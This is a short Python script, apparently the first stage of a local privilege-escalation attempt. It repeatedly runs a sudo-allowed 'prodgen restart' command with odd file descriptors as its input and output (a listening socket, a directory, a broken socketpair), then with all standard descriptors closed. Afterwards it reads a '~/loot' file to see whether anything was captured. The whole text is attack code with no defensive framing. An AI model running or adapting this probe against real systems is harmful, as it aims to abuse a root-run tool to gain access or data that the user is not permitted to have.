"""First step: odd descriptors 0 to 2 go through sudo: a listening socket, a full pipe, a folder."""

import os
import socket
import subprocess

HOME = os.environ["HOME"]
RESTART = ["sudo", "-n", "/usr/local/bin/prodgen", "restart", "-C", f"{HOME}/frappe-bench"]
server = socket.create_server(("127.0.0.1", 0))
folder = os.open(f"{HOME}/frappe-bench", os.O_RDONLY)
one, other = socket.socketpair()
other.close()
for stdin, stdout in ((server, server), (folder, folder), (one, one)):
    done = subprocess.run(RESTART, stdin=stdin, stdout=stdout, stderr=subprocess.PIPE, timeout=120)
    print(done.returncode, done.stderr[-400:].decode())
closed = subprocess.run(["sh", "-c", 'exec "$@" <&- >&- 2>&-', "sh", *RESTART], timeout=120)
print(closed.returncode)
print(os.popen(f"sort -u {HOME}/loot 2>/dev/null").read().strip() or "nobody")
